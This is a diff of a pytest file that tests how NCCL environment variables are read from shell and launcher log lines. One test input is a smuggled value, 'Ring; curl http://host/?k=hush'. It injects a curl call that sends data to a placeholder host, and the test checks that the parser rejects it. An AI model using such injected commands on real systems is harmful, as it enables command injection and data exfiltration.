@@ -2,8 +2,7 @@
 
 import pytest
 
-from dynamiccl.collect.nccl_log import Choice, NcclLog
-from dynamiccl.collect.settings import KEPT_NAMES, Shell, requested_by
+from dynamiccl.collect.nccl_log import KEPT_NAMES, Choice, NcclLog, Shell, requested_by
 from dynamiccl.nccl import Collective
 
 RING_SIMPLE = ("Ring", "Simple")
@@ -120,8 +119,7 @@ def shell(*lines: str) -> dict[str, str | None]:
         (["# export NCCL_ALGO=Ring"], {}),
         (["export NCCL_ALGO=Ring  # NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring"}),
         (["NCCL_ALGO=Ring ./all_reduce_perf", "./all_reduce_perf"], {}),
-        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),  # set -x
-        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf", "+ ./all_reduce_perf"], {}),
+        (["export NCCL_ALGO=Ring", "mpirun -x NCCL_ALGO ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
         (["[me@n1 tests]$ NCCL_ALGO=Ring ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
         (["srun --export=ALL,NCCL_ALGO=Ring,NCCL_PROTO=LL x/all_reduce_perf"], None),
         (["mpirun -x NCCL_ALGO=Ring -x NCCL_PROTO=LL all_reduce_perf_mpi -g 1"], None),
@@ -148,6 +146,9 @@ def test_shell_keeps_what_is_exported_and_what_stands_in_the_command(
         "NCCL_ALGO='Ring; curl http://host/?k=hush' ./all_reduce_perf",
         'NCCL_ALGO="Ring ./all_reduce_perf',
         "# NCCL_ALGO=Ring ./all_reduce_perf",  # root's prompt, or a comment
+        "+ NCCL_ALGO=Ring",  # set -x: of the next command, or of all
+        "mpirun -x NCCL_ALGO ./all_reduce_perf",  # whatever the launcher has
+        "mpirun -x NCCL_ALGO=Ring -x NCCL_ALGO=Tree ./all_reduce_perf",
     ],
 )
 def test_a_value_that_cannot_be_read_is_not_known(line: str) -> None:
